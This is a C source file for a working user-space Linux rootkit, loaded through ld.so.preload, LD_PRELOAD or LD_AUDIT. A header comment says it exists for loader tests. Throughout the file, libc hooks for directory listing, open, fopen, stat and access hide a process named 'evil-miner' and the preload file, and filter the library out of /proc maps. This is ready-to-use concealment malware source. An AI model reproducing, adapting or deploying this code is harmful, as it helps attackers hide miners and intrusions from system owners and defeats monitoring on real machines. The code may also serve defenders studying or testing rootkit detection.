/* A user-space rootkit of the libprocesshider family, for the kit's loader tests only.
 *
 * Loaded through /etc/ld.so.preload (inside a private mount namespace the test makes),
 * LD_PRELOAD or LD_AUDIT, it hooks libc so that every dynamically linked program:
 *   - does not see processes whose comm is HIDE_PROC (readdir/readdir64 of /proc, and
 *     open/stat of /proc/PID/...);
 *   - cannot open, stat or list a file whose name holds HIDE_FILE (the preload list);
 *   - reads /proc/.../maps without the lines naming SELF (this library).
 * The real work goes through raw system calls, so the hooks do not recurse.
 * Compiled by the test: gcc -shared -fPIC -O2 -o libhide.so rootkit_hook.c -ldl */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define HIDE_PROC "evil-miner"
#define HIDE_FILE "ld.so.preload"
#define SELF "libhide"

static int digits(const char *s, size_t n) {
    if (n == 0)
        return 0;
    for (size_t i = 0; i < n; i++)
        if (s[i] < '0' || s[i] > '9')
            return 0;
    return 1;
}

static int pid_hidden(const char *pid, size_t n) {
    char path[64], comm[32] = {0};
    if (!digits(pid, n) || n > 20)
        return 0;
    snprintf(path, sizeof path, "/proc/%.*s/comm", (int)n, pid);
    long fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    long got = syscall(SYS_read, fd, comm, sizeof comm - 1);
    syscall(SYS_close, fd);
    return got > 0 && strncmp(comm, HIDE_PROC, strlen(HIDE_PROC)) == 0;
}

/* /proc/PID or /proc/PID/... of a hidden process, or anything naming the preload list. */
static int path_hidden(const char *p) {
    if (!p)
        return 0;
    if (strstr(p, HIDE_FILE))
        return 1;
    if (strncmp(p, "/proc/", 6) == 0) {
        const char *pid = p + 6;
        return pid_hidden(pid, strcspn(pid, "/"));
    }
    return 0;
}

static int is_maps(const char *p) {
    size_t n = p ? strlen(p) : 0;
    return n >= 5 && strcmp(p + n - 5, "/maps") == 0;
}

/* The maps file without our lines, in a memfd. */
static int filtered_maps(const char *path) {
    long fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        errno = (int)-fd;
        return -1;
    }
    size_t cap = 1 << 16, len = 0;
    char *buf = malloc(cap);
    long got;
    while (buf && (got = syscall(SYS_read, fd, buf + len, cap - len)) > 0) {
        len += (size_t)got;
        if (cap - len < 4096)
            buf = realloc(buf, cap *= 2);
    }
    syscall(SYS_close, fd);
    long out = syscall(SYS_memfd_create, "maps", 0);
    if (!buf || out < 0)
        return -1;
    for (char *line = buf; line < buf + len;) {
        char *end = memchr(line, '\n', (size_t)(buf + len - line));
        size_t n = end ? (size_t)(end - line + 1) : (size_t)(buf + len - line);
        if (!memmem(line, n, SELF, strlen(SELF)))
            syscall(SYS_write, out, line, n);
        line += n;
    }
    free(buf);
    syscall(SYS_lseek, out, 0, SEEK_SET);
    return (int)out;
}

#define REAL(type, name) static type real; if (!real) real = (type)dlsym(RTLD_NEXT, name)

typedef struct dirent *(*readdir_t)(DIR *);
typedef struct dirent64 *(*readdir64_t)(DIR *);

static int entry_hidden(const char *name) {
    return pid_hidden(name, strlen(name)) || strstr(name, HIDE_FILE) != NULL;
}

struct dirent *readdir(DIR *d) {
    REAL(readdir_t, "readdir");
    struct dirent *e;
    while ((e = real(d)) && entry_hidden(e->d_name)) {
    }
    return e;
}

struct dirent64 *readdir64(DIR *d) {
    REAL(readdir64_t, "readdir64");
    struct dirent64 *e;
    while ((e = real(d)) && entry_hidden(e->d_name)) {
    }
    return e;
}

typedef int (*open_t)(const char *, int, ...);
typedef int (*openat_t)(int, const char *, int, ...);
typedef FILE *(*fopen_t)(const char *, const char *);

#define OPEN_HOOK(fname)                                                               \
    int fname(const char *p, int flags, ...) {                                         \
        REAL(open_t, #fname);                                                          \
        va_list ap;                                                                    \
        va_start(ap, flags);                                                           \
        int mode = va_arg(ap, int);                                                    \
        va_end(ap);                                                                    \
        if (path_hidden(p)) {                                                          \
            errno = ENOENT;                                                            \
            return -1;                                                                 \
        }                                                                              \
        return is_maps(p) ? filtered_maps(p) : real(p, flags, mode);                   \
    }
OPEN_HOOK(open)
OPEN_HOOK(open64)

#define OPENAT_HOOK(fname)                                                             \
    int fname(int dirfd, const char *p, int flags, ...) {                              \
        REAL(openat_t, #fname);                                                        \
        va_list ap;                                                                    \
        va_start(ap, flags);                                                           \
        int mode = va_arg(ap, int);                                                    \
        va_end(ap);                                                                    \
        if (path_hidden(p)) {                                                          \
            errno = ENOENT;                                                            \
            return -1;                                                                 \
        }                                                                              \
        return is_maps(p) ? filtered_maps(p) : real(dirfd, p, flags, mode);            \
    }
OPENAT_HOOK(openat)
OPENAT_HOOK(openat64)

#define FOPEN_HOOK(fname)                                                              \
    FILE *fname(const char *p, const char *mode) {                                     \
        REAL(fopen_t, #fname);                                                         \
        if (path_hidden(p)) {                                                          \
            errno = ENOENT;                                                            \
            return NULL;                                                               \
        }                                                                              \
        if (is_maps(p)) {                                                              \
            int fd = filtered_maps(p);                                                 \
            return fd < 0 ? NULL : fdopen(fd, mode);                                   \
        }                                                                              \
        return real(p, mode);                                                          \
    }
FOPEN_HOOK(fopen)
FOPEN_HOOK(fopen64)

/* The stat family and access: the hidden paths do not exist. */
#define HIDE_PATH_CALL(ret, fname, params, path, args)                                 \
    ret fname params {                                                                 \
        typedef ret(*fn_t) params;                                                     \
        REAL(fn_t, #fname);                                                            \
        if (path_hidden(path)) {                                                       \
            errno = ENOENT;                                                            \
            return -1;                                                                 \
        }                                                                              \
        return real args;                                                              \
    }
HIDE_PATH_CALL(int, stat, (const char *p, struct stat *b), p, (p, b))
HIDE_PATH_CALL(int, lstat, (const char *p, struct stat *b), p, (p, b))
HIDE_PATH_CALL(int, stat64, (const char *p, struct stat64 *b), p, (p, b))
HIDE_PATH_CALL(int, lstat64, (const char *p, struct stat64 *b), p, (p, b))
HIDE_PATH_CALL(int, fstatat, (int d, const char *p, struct stat *b, int f), p, (d, p, b, f))
HIDE_PATH_CALL(int, fstatat64, (int d, const char *p, struct stat64 *b, int f), p, (d, p, b, f))
HIDE_PATH_CALL(int, __xstat, (int v, const char *p, struct stat *b), p, (v, p, b))
HIDE_PATH_CALL(int, __lxstat, (int v, const char *p, struct stat *b), p, (v, p, b))
HIDE_PATH_CALL(int, __xstat64, (int v, const char *p, struct stat64 *b), p, (v, p, b))
HIDE_PATH_CALL(int, __lxstat64, (int v, const char *p, struct stat64 *b), p, (v, p, b))
HIDE_PATH_CALL(int, statx, (int d, const char *p, int f, unsigned m, struct statx *b), p,
               (d, p, f, m, b))
HIDE_PATH_CALL(int, access, (const char *p, int m), p, (p, m))
HIDE_PATH_CALL(int, faccessat, (int d, const char *p, int m, int f), p, (d, p, m, f))

/* Also a valid LD_AUDIT module: the loader accepts any library exporting la_version. */
unsigned int la_version(unsigned int version) {
    return version;
}
